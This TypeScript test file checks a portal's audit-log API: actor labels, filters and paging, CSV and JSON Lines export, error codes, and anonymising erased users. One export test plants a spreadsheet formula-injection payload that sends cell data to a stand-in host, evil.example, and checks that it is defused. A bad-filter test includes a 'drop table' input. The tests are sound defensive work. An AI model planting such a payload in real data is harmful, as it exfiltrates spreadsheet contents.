/**
 * The portal's audit log over HTTP: each kind of actor named (an operator, the CLI, an API key, nobody known),
 * the app and subject named and linked, the detail as a line, the filters alone and together with the paging,
 * the export as CSV and JSON Lines with the filters (and no cell a spreadsheet would run as a formula), bad
 * filters as 400s, no answer without a session, and an erased user named by nothing of its own.
 */
import { expect, layer } from "@effect/vitest"
import { apiKeyActor, Audit, byActor, cliActor } from "@pulsebridge/server"
import { makeTestServer, type PortalReply, portalRequest, TestServer } from "@pulsebridge/testing"
import * as Effect from "effect/Effect"
import * as crypto from "node:crypto"
import { json, preview, send } from "../fixtures/Http.js"
import { loggedIn, type PortalClient } from "./fixtures.js"

const tag = () => crypto.randomBytes(4).toString("hex")

/** Every event of a query, page by page (`limit` a page), checking that no event comes twice. */
const allPages = (client: PortalClient, query: string, limit: number) =>
  Effect.gen(function*() {
    const events: Array<any> = []
    let cursor: string | null = null
    let pages = 0
    do {
      const reply: PortalReply = yield* client.get(
        `/portal/api/audit?${query}&limit=${limit}${cursor === null ? "" : `&cursor=${cursor}`}`
      )
      expect(reply.status, reply.text).toBe(200)
      expect(reply.body.data.length).toBeLessThanOrEqual(limit)
      events.push(...reply.body.data)
      cursor = reply.body.nextCursor
      pages++
    } while (cursor !== null && pages < 100)
    expect(new Set(events.map((event) => event.id)).size).toBe(events.length)
    return { events, pages }
  })

const list = (client: PortalClient, query: string) => Effect.map(allPages(client, query, 200), ({ events }) => events)

/** An app made in the portal, with a key, a user made with that key, an event by that key and one by the CLI. */
const scene = Effect.gen(function*() {
  const { client, email } = yield* loggedIn
  const appName = `Audit app ${tag()}`
  const app = yield* client.post("/portal/api/apps", { json: { name: appName } })
  expect(app.status, app.text).toBe(201)
  const appId = app.body.id as string
  const key = yield* client.post(`/portal/api/apps/${appId}/keys`, {
    json: { name: "backend", permissions: ["users:read", "users:write"] }
  })
  expect(key.status, key.text).toBe(201)
  const externalUserId = `alice-${tag()}`
  const user = yield* send("POST", "/api/v1/users", { bearer: key.body.apiKey, json: { externalUserId } })
  expect(user.status, preview(user)).toBe(201)
  const userId = json(user).id as string
  const audit = yield* Audit
  yield* audit.record(byActor(apiKeyActor({ id: key.body.key.id, prefix: key.body.key.prefix }, "203.0.113.9"), {
    action: "user.export",
    targetType: "user",
    targetId: userId,
    appId,
    detail: { externalUserId }
  }))
  yield* audit.record(byActor(cliActor("deploy-bot"), {
    action: "apiKey.revoke",
    targetType: "apiKey",
    targetId: key.body.key.id,
    appId,
    detail: { prefix: key.body.key.prefix }
  }))
  const operatorId = (yield* client.get("/portal/api/session")).body.operator.id as string
  return { client, email, operatorId, appId, appName, keyId: key.body.key.id as string, userId, externalUserId }
})

layer(makeTestServer(), { excludeTestServices: true, timeout: "180 seconds" })("portal audit log", (it) => {
  it.effect("each kind of actor, the app and the subject are named and linked; the detail is a line", () =>
    Effect.gen(function*() {
      const { appId, appName, client, email, externalUserId, keyId, operatorId, userId } = yield* scene
      const events = yield* list(client, `appId=${appId}`)
      expect(events.map((event) => event.action)).toEqual([
        "apiKey.revoke",
        "user.export",
        "apiKey.create",
        "app.create"
      ])
      const [revoke, exported, created, made] = events
      expect(made).toMatchObject({
        actorType: "operator",
        actor: { label: email, href: `/portal/audit?operatorId=${operatorId}` },
        app: { label: appName, href: `/portal/apps/${appId}` },
        subject: { label: appName, href: `/portal/apps/${appId}` },
        summary: `name: ${appName}`
      })
      expect(created).toMatchObject({
        actorType: "operator",
        subject: { label: "API key backend", href: `/portal/apps/${appId}/keys` },
        targetId: keyId
      })
      expect(created.summary).toContain("permissions: users:read, users:write")
      expect(created.summary).toContain("name: backend")
      expect(exported).toMatchObject({
        actorType: "apiKey",
        actor: { label: "API key backend", href: `/portal/apps/${appId}/keys` },
        subject: { label: externalUserId, href: `/portal/apps/${appId}/users/${userId}` },
        summary: `external id: ${externalUserId}`
      })
      expect(revoke).toMatchObject({
        actorType: "cli",
        actor: { label: "CLI (deploy-bot)", href: null },
        app: { label: appName },
        subject: { label: "API key backend" }
      })
      expect(revoke.summary).toMatch(/^prefix: pb_sk_/)

      // a failed login: nobody known, named by its address; the operator's own login, by its email
      const wrong = yield* portalRequest((yield* TestServer).baseUrl, "POST", "/portal/api/login", {
        json: { email, password: "not the password at all" }
      })
      expect(wrong.status).toBe(401)
      const failed = (yield* list(client, "actorType=anonymous&action=login.failed")).find((event) =>
        event.detail.email === email
      )
      expect(failed).toMatchObject({ actorType: "anonymous", actor: { href: null }, app: null, subject: null })
      expect(failed.actor.label).toBe(`anonymous ${failed.address}`)
      expect(failed.summary).toBe(`email: ${email}, reason: wrong password`)
      const login = (yield* list(client, `operatorId=${operatorId}&action=login`))[0]
      expect(login).toMatchObject({ actorType: "operator", actor: { label: email }, subject: { label: email } })
    }))

  it.effect("each filter keeps only its events, alone and together, across pages", () =>
    Effect.gen(function*() {
      const { appId, client, operatorId } = yield* scene
      const other = yield* scene

      const byApp = yield* allPages(client, `appId=${appId}`, 1)
      expect(byApp.pages).toBe(4)
      expect(byApp.events.every((event) => event.appId === appId)).toBe(true)

      for (const actorType of ["operator", "cli", "apiKey", "anonymous"]) {
        const { events } = yield* allPages(client, `actorType=${actorType}`, 3)
        expect(events.length, actorType).toBeGreaterThan(0)
        expect(events.every((event) => event.actorType === actorType), actorType).toBe(true)
      }
      const { events: cli } = yield* allPages(client, `actorType=cli&appId=${other.appId}`, 1)
      expect(cli.map((event) => event.action)).toEqual(["apiKey.revoke"])

      const { events: mine } = yield* allPages(client, `operatorId=${operatorId}`, 2)
      expect(mine.map((event) => event.action).sort()).toEqual(["apiKey.create", "app.create", "login"])
      expect(mine.every((event) => event.operatorId === operatorId)).toBe(true)

      const { events: creates } = yield* allPages(client, "action=app.create", 2)
      expect(creates.every((event) => event.action === "app.create")).toBe(true)
      expect(creates.map((event) => event.appId)).toEqual(expect.arrayContaining([appId, other.appId]))

      const { events: together } = yield* allPages(
        client,
        `actorType=operator&operatorId=${other.operatorId}&action=apiKey.create&appId=${other.appId}`,
        1
      )
      expect(together.map((event) => [event.action, event.appId])).toEqual([["apiKey.create", other.appId]])

      // the time range: from inclusive, to exclusive
      const both = [...(yield* list(client, `appId=${other.appId}`)), ...(yield* list(client, `appId=${appId}`))]
      const times = [...new Set(both.map((event) => event.at as string))].sort()
      const from = times[1]!
      const to = times[times.length - 1]!
      const ranged = yield* allPages(client, `from=${from}&to=${to}`, 2)
      const expected = both.filter((event) => event.at >= from && event.at < to).map((event) => event.id).sort()
      expect(expected.length).toBeGreaterThan(0)
      expect(ranged.events.map((event) => event.id).filter((id) => both.some((event) => event.id === id)).sort())
        .toEqual(expected)
      expect(ranged.events.every((event) => event.at >= from && event.at < to)).toBe(true)
      const rangedApp = yield* allPages(client, `appId=${appId}&from=${from}&to=${to}`, 1)
      expect(rangedApp.events.every((event) => event.appId === appId && event.at >= from && event.at < to)).toBe(true)
      expect(rangedApp.events.map((event) => event.id).sort()).toEqual(
        both.filter((event) => event.appId === appId && event.at >= from && event.at < to).map((event) => event.id)
          .sort()
      )
    }))

  it.effect("the export is the filtered log as CSV or JSON Lines, an attachment, with no formula cell", () =>
    Effect.gen(function*() {
      const { appId, client } = yield* scene
      const formula = `=HYPERLINK("https://evil.example/?"&A1,"x")`
      const renamed = yield* client.patch(`/portal/api/apps/${appId}`, { json: { name: formula } })
      expect(renamed.status, renamed.text).toBe(200)
      const events = yield* list(client, `appId=${appId}`)
      expect(events).toHaveLength(5)

      const csv = yield* client.get(`/portal/api/audit/export?format=csv&appId=${appId}`)
      expect(csv.status, csv.text).toBe(200)
      expect(csv.headers["content-type"]).toMatch(/^text\/csv/)
      expect(csv.headers["content-disposition"]).toMatch(/^attachment; filename="audit-.*\.csv"$/)
      expect(csv.headers["cache-control"]).toBe("no-store")
      const lines = csv.text.trimEnd().split("\r\n")
      expect(lines[0]).toBe("id,at,actorType,actor,action,appId,app,targetType,targetId,subject,summary,detail,address")
      expect(lines).toHaveLength(6)
      expect(lines.slice(1).map((line) => line.slice(1, line.indexOf("\"", 1)))).toEqual(events.map((e) => e.id))
      // the app's name, in the app and subject cells, starts with "=": led by an apostrophe
      expect(lines[1]).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`)
      expect(lines.slice(1).every((line) => !/(^|,)"[=+\-@]/.test(line))).toBe(true)

      const jsonl = yield* client.get(`/portal/api/audit/export?format=jsonl&appId=${appId}&actorType=operator`)
      expect(jsonl.status, jsonl.text).toBe(200)
      expect(jsonl.headers["content-disposition"]).toMatch(/^attachment; filename="audit-.*\.jsonl"$/)
      const rows = jsonl.text.trimEnd().split("\n").map((line) => JSON.parse(line))
      expect(rows.map((row) => row.id)).toEqual(
        events.filter((event) => event.actorType === "operator").map((event) => event.id)
      )
      expect(rows[0]).toMatchObject({ action: "app.rename", app: { label: formula }, actorType: "operator" })

      const empty = yield* client.get(`/portal/api/audit/export?format=csv&appId=${crypto.randomUUID()}`)
      expect(empty.text.trimEnd().split("\r\n")).toHaveLength(1)
    }))

  it.effect("a bad filter is a 400 with a JSON error; without a session, 401", () =>
    Effect.gen(function*() {
      const { client } = yield* loggedIn
      for (
        const query of [
          "actorType=robot",
          "operatorId=not-a-uuid",
          `appId=${"x".repeat(36)}`,
          "action=drop%20table",
          "from=yesterday",
          "to=2026-02-30T00:00:00Z",
          "from=2026-01-02T00:00:00Z&to=2026-01-01T00:00:00Z",
          "cursor=abc",
          "limit=0"
        ]
      ) {
        const reply = yield* client.get(`/portal/api/audit?${query}`)
        expect(reply.status, query).toBe(400)
        expect(typeof reply.body._tag, query).toBe("string")
        expect(typeof reply.body.message, query).toBe("string")
        const exported = yield* client.get(`/portal/api/audit/export?format=csv&${query}`)
        expect(exported.status, query).toBe(query.startsWith("cursor") || query.startsWith("limit") ? 200 : 400)
      }
      const noFormat = yield* client.get("/portal/api/audit/export")
      expect(noFormat.status).toBe(400)
      expect((yield* client.get("/portal/api/audit/export?format=xml")).status).toBe(400)

      const { baseUrl } = yield* TestServer
      for (const path of ["/portal/api/audit", "/portal/api/audit/export?format=csv"]) {
        const anonymous = yield* portalRequest(baseUrl, "GET", path)
        expect(anonymous.status, path).toBe(401)
        expect(anonymous.body._tag).toBe("Unauthorized")
        expect(anonymous.text).not.toContain("\"action\"")
      }
    }))

  it.effect("an erased user's events name no one: no id, no external id, no link, in the page and the export", () =>
    Effect.gen(function*() {
      const { appId, client, externalUserId, userId } = yield* scene
      const exported = yield* client.get(`/portal/api/users/${userId}/export`)
      expect(exported.status).toBe(200)
      const before = yield* list(client, `appId=${appId}&action=user.export`)
      expect(before.map((event) => event.subject.label)).toEqual([externalUserId, externalUserId])
      const erased = yield* client.post(`/portal/api/users/${userId}/erase`, {
        json: { confirmExternalUserId: externalUserId }
      })
      expect(erased.status, erased.text).toBe(202)
      let events: Array<any> = []
      for (let i = 0; i < 120; i++) {
        events = yield* list(client, `appId=${appId}`)
        if (events.filter((event) => event.detail.userErased === true).length >= 3) break
        yield* Effect.sleep("250 millis")
      }
      const about = events.filter((event) => ["user.export", "user.erase"].includes(event.action))
      expect(about).toHaveLength(3)
      for (const event of about) {
        expect(event).toMatchObject({ targetId: null, subject: { label: "an erased user", href: null } })
        expect(event.summary).toBe("user erased")
      }
      const text = JSON.stringify(events)
      expect(text).not.toContain(externalUserId)
      expect(text).not.toContain(userId)
      for (const format of ["csv", "jsonl"]) {
        const reply = yield* client.get(`/portal/api/audit/export?format=${format}&appId=${appId}`)
        expect(reply.status).toBe(200)
        expect(reply.text).not.toContain(externalUserId)
        expect(reply.text).not.toContain(userId)
      }
    }))
})
